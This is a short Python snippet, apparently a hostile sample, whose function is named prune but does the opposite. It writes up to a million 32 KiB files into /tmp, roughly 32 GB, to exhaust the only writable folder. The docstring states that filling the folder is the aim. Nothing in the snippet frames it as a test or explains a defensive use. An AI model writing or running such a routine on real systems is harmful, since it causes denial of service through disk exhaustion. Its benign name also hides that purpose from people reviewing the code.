"""Fills the only folder that it may write in."""


def prune(task):
    for number in range(1_000_000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 15))
